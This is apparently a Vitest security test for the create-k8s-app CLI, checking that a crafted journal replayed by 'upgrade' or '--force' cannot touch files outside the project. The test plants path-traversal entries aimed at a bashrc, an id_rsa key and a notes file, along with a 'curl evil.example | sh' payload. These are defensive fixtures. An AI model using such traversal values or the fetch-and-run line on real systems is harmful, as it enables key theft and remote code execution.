// A project is untrusted input: a crafted record of an interrupted run, replayed by `upgrade` or
// `--force`, must not write, move or delete anything outside the project.
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { runCli } from '../support/cli.js';
import { tempRoot } from '../support/project.js';

const root = tempRoot('ck8s-journal-');
afterAll(() => root.cleanup());
let n = 0;

/** Every file and folder under `dir`, with each file's bytes. */
function snapshot(dir: string): Record<string, string> {
  const out: Record<string, string> = {};
  const walk = (d: string) => {
    for (const entry of readdirSync(d, { withFileTypes: true })) {
      const full = join(d, entry.name);
      if (entry.isDirectory()) {
        out[`${relative(dir, full)}/`] = '';
        walk(full);
      } else out[relative(dir, full)] = readFileSync(full).toString('base64');
    }
  };
  walk(dir);
  return out;
}

/** A generated project beside a victim folder, in a fresh case folder. */
function setup(): { cwd: string; project: string; victim: string } {
  const cwd = join(root.dir, `case-${n++}`);
  mkdirSync(cwd);
  const r = runCli(['demo', '--yes', '--no-lint'], { cwd });
  expect(r.code, r.stderr).toBe(0);
  const victim = join(cwd, 'victim');
  mkdirSync(victim);
  writeFileSync(join(victim, 'bashrc'), 'export PATH=/usr/bin\n');
  writeFileSync(join(victim, 'id_rsa'), 'PRIVATE KEY\n');
  writeFileSync(join(victim, 'notes'), 'my notes\n');
  return { cwd, project: join(cwd, 'demo'), victim };
}

/** The journal layout of the first releases: entries naming a path, a temp file and a backup. */
function plantLegacyJournal(project: string): void {
  const dir = join(project, '.create-k8s-app', 'journal');
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, '0'), 'curl evil.example | sh\n');
  const entries = [
    { path: '../victim/bashrc', temp: null, backup: '.create-k8s-app/journal/0' },
    { path: 'stolen_id_rsa', temp: null, backup: '../victim/id_rsa' },
    { path: '../victim/notes', temp: null, backup: null },
    { path: 'README.md', temp: '../victim/notes', backup: null },
  ];
  writeFileSync(join(dir, 'journal.json'), JSON.stringify({ entries, createdDirs: ['../victim'] }));
}

describe('a crafted journal with paths outside the project', () => {
  for (const command of [['upgrade', 'demo'], ['demo', '--yes', '--force', '--no-lint']]) {
    it(`is not replayed by \`${command.join(' ')}\``, () => {
      const { cwd, project, victim } = setup();
      const before = snapshot(victim);
      plantLegacyJournal(project);
      const r = runCli(command, { cwd });
      expect(snapshot(victim), r.stderr).toEqual(before);
      expect(readdirSync(project)).not.toContain('stolen_id_rsa');
      expect(r.stderr).not.toMatch(/\n\s+at |this is a bug/);
      expect(r.code, r.stderr).toBe(2);
      expect(r.stderr).toMatch(/^error: .*journal.json was not written by create-k8s-app/);
    });
  }
});
